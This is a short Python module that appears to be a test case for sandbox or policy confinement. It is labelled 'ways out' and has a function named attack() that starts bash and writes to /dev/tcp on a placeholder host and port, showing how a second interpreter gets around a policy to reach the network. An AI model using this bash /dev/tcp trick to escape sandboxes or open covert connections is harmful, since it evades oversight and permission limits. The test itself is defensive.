"""Another interpreter on the machine."""
CATEGORY = "ways out"
REACH = "net"
GRANT = {"run": True}
BEYOND = ("An interpreter of another kind is a program as any other, and "
          "knows no policy.")

import subprocess

from . import payload


def attack():
    subprocess.run(["/bin/bash", "-c", "echo evil > /dev/tcp/"
                    f"{payload.HOST}/{payload.PORT}"])
